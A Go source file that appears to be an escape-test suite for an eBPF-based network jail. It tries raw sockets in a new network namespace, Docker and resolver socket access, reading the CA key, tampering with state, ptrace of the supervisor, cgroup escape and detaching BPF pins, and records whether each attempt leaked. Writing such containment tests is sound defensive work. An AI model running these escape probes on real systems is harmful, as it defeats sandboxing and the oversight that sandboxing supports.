	var d string
	switch name {
	case "unshare-netns":
		st, d = inNewNetns(s)
	case "cgroup-escape":
		st, d = escapeCgroup(s)
	case idleStep:
		return
	default:
		step, try, _ := strings.Cut(name, "/")
		if step != "connect-then-exit" && step != "connect-then-exec" {
			st, d = Broken, "unknown step "+name
			break
		}
		st, d = raceStep(s, step, try)
	}
	json.NewEncoder(w).Encode(Outcome{Name: name, Status: st, Detail: d})
}

func inNewNetns(s Spec) (Status, string) {
	// As the namespace's root it may bring lo up and open raw sockets.
	if fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0); err == nil {
		ifr, _ := unix.NewIfreq("lo")
		ifr.SetUint16(unix.IFF_UP | unix.IFF_LOOPBACK | unix.IFF_RUNNING)
		unix.IoctlIfreq(fd, unix.SIOCSIFFLAGS, ifr)
		unix.Close(fd)
	}
	if fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_ICMP); err == nil {
		unix.Close(fd)
		return Leaked, "raw socket created as the namespace's root"
	}
	c, err := toTarget(s, "")
	if err != nil {
		return Blocked, "entered, then " + errText(err)
	}
	st, d := exchange(c, get(Decoy, "/unshare-netns"))
	return st, "entered, then " + d
}

// unixAttempt connects to each socket of a kind that exists and says
// something in its protocol.
func unixAttempt(paths func(Spec) []string, hello string) func(Spec) (Status, string) {
	return func(s Spec) (Status, string) {
		var details []string
		tried := 0
		for _, p := range paths(s) {
			if _, err := os.Stat(p); err != nil {
				continue
			}
			tried++
			c, err := net.DialTimeout("unix", p, opTimeout)
			if err != nil {
				details = append(details, p+": "+errText(err))
				continue
			}
			c.SetDeadline(time.Now().Add(opTimeout))
			io.WriteString(c, hello)
			c.Close()
			return Leaked, "connected to " + p
		}
		if tried == 0 {
			return NotApplicable, "no such socket here"
		}
		return Blocked, strings.Join(details, "; ")
	}
}

// What a client of each kind says first: a varlink hostname lookup
// (nss-resolve) and a Docker API call to start a container.
const (
	resolverQuery = `{"method":"io.systemd.Resolve.ResolveHostname","parameters":{"name":"unix-resolver.` + Forbidden + `"}}` + "\x00"
	engineQuery   = "POST /unix-engine/containers/create HTTP/1.1\r\nHost: docker\r\nContent-Length: 0\r\n\r\n"
)

func caKey(s Spec) (Status, string) {
	f, err := os.Open(s.CAKey)
	if err != nil {
		if errors.Is(err, os.ErrNotExist) {
			return Broken, "no key at " + s.CAKey + ": cannot try"
		}
		return Blocked, "open " + s.CAKey + ": " + errText(err)
	}
	defer f.Close()
	if n, _ := f.Read(make([]byte, 16)); n > 0 {
		return Leaked, "read " + s.CAKey
	}
	return Blocked, "opened but could not read " + s.CAKey
}

func stateTamper(s Spec) (Status, string) {
	p := filepath.Join(s.StateDir, "state-tamper.json")
	f, err := os.OpenFile(p, os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o644)
	if err != nil {
		return Blocked, "create in " + s.StateDir + ": " + errText(err)
	}
	f.Close()
	os.Remove(p)
	return Leaked, "created " + p
}

func ptraceSupervisor(Spec) (Status, string) {
	sup := os.Getppid()
	// ptrace requests must all come from the thread that attached.
	var st Status
	var d string
	done := make(chan struct{})
	go func() {
		defer close(done)
		runtime.LockOSThread() // never unlocked: the thread goes with the goroutine
		if err := unix.PtraceAttach(sup); err != nil {
			st, d = Blocked, fmt.Sprintf("ptrace(ATTACH, %d): %s", sup, errText(err))
			return
		}
		var ws unix.WaitStatus
		unix.Wait4(sup, &ws, unix.WALL, nil)
		unix.PtraceDetach(sup)
		st, d = Leaked, fmt.Sprintf("attached to ebpfjail (pid %d)", sup)
	}()
	<-done
	return st, d
}

func setuid(s Spec) (Status, string) {
	if s.Setuid == "" {
		return NotApplicable, "no setuid helper to try"
	}
	out, err := exec.Command(s.Setuid, "-u").Output()
	uid := strings.TrimSpace(string(out))
	if err != nil {
		return Blocked, "exec " + s.Setuid + ": " + errText(err)
	}
	if uid == "0" {
		return Leaked, "a setuid-root program ran as root"
	}
	return Blocked, "a setuid-root program ran as uid " + uid + " (no_new_privs)"
}

func cgroupEscape(s Spec) (Status, string) {
	return runStep(exec.Command("/proc/self/exe", StepArg, "cgroup-escape", s.Encode()), "cgroup")
}

// escapeCgroup tries to write itself into the root and the parent cgroup
// and to make a child cgroup; if it got out, it connects to show it.
func escapeCgroup(s Spec) (Status, string) {
	mnt, cg, err := ownCgroup()
	if err != nil {
		return Broken, err.Error()
	}
	pid := []byte(strconv.Itoa(os.Getpid()))
	var details []string
	moved := false
	for _, dir := range []string{mnt, filepath.Dir(filepath.Join(mnt, cg))} {
		p := filepath.Join(dir, "cgroup.procs")
		if err := os.WriteFile(p, pid, 0); err != nil {
			details = append(details, p+": "+errText(err))
			continue
		}
		moved = true
		details = append(details, "moved into "+dir)
		break
	}
	sub := filepath.Join(mnt, cg, "escape")
	if err := os.Mkdir(sub, 0o755); err != nil {
		details = append(details, "mkdir: "+errText(err))
	} else {
		os.Remove(sub)
		details = append(details, "made "+sub)
		moved = true
	}
	if !moved {
		return Blocked, strings.Join(details, "; ")
	}
	if c, err := toTarget(s, ""); err == nil {
		st, d := exchange(c, get(Forbidden, "/cgroup-escape"))
		details = append(details, "then "+d)
		_ = st
	}
	return Leaked, strings.Join(details, "; ")
}

// ownCgroup finds the cgroup2 mount and this process's cgroup in it.
func ownCgroup() (mnt, cg string, err error) {
	b, err := os.ReadFile("/proc/self/cgroup")
	if err != nil {
		return "", "", err
	}
	for _, line := range strings.Split(string(b), "\n") {
		if p, ok := strings.CutPrefix(line, "0::"); ok {
			cg = p
		}
	}
	if mnt, err = mounts.Cgroup2(); err != nil {
		return "", "", err
	}
	if mnt == "" || cg == "" {
		return "", "", errors.New("find own cgroup: no cgroup2 mount or entry")
	}
	return mnt, cg, nil
}

// bpfDetach opens the jail's pinned links and detaches them: the way back
// to an unsteered network for anyone who can reach the pins.
func bpfDetach(s Spec) (Status, string) {
	var pins []string
	err := filepath.WalkDir(s.PinDir, func(p string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() {
			pins = append(pins, p)
		}
		return nil
	})
	if err != nil {
		return Blocked, "list " + s.PinDir + ": " + errText(err)
	}
	if len(pins) == 0 {
		return Blocked, "no pins readable under " + s.PinDir
	}
	var last error
	for _, p := range pins {
		if last = detachPin(p); last == nil {
			return Leaked, "detached " + p
		}
	}
	return Blocked, fmt.Sprintf("%d pins, none could be opened and detached (%s)", len(pins), errText(last))
}
